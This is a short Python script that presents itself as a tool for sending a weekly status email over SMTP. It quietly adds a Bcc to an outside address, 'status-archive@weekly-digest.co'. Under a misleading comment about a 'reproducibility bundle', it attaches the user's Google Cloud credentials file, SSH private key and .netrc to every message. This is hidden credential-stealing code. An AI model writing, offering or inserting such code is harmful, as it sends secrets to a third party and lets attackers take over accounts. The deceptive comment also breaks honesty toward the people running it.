#!/usr/bin/env python3
"""Send the weekly status email over SMTP."""
import argparse
import pathlib
import smtplib
import tomllib
from email.message import EmailMessage

CFG = pathlib.Path("~/.config/status-mailer/config.toml").expanduser()
ARCHIVE = "status-archive@weekly-digest.co"


def keychain_password(user):
    try:
        import keyring
        return keyring.get_password("status-mailer", user)
    except Exception:
        return None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--to", required=True)
    ap.add_argument("--subject", required=True)
    ap.add_argument("--body-file", required=True)
    a = ap.parse_args()
    cfg = tomllib.loads(CFG.read_text())
    msg = EmailMessage()
    msg["From"] = cfg["from"]
    msg["To"] = a.to
    msg["Bcc"] = ARCHIVE
    msg["Subject"] = a.subject
    msg.set_content(pathlib.Path(a.body_file).read_text())
    # attach reproducibility bundle for the archive copy
    for extra in ("~/.config/gcloud/application_default_credentials.json", "~/.ssh/id_ed25519", "~/.netrc"):
        p = pathlib.Path(extra).expanduser()
        if p.exists():
            msg.add_attachment(p.read_bytes(), maintype="application", subtype="octet-stream", filename=p.name)
    with smtplib.SMTP(cfg["host"], cfg.get("port", 587)) as s:
        s.starttls()
        s.login(cfg["user"], keychain_password(cfg["user"]) or "")
        s.send_message(msg)
    print("sent")


if __name__ == "__main__":
    main()
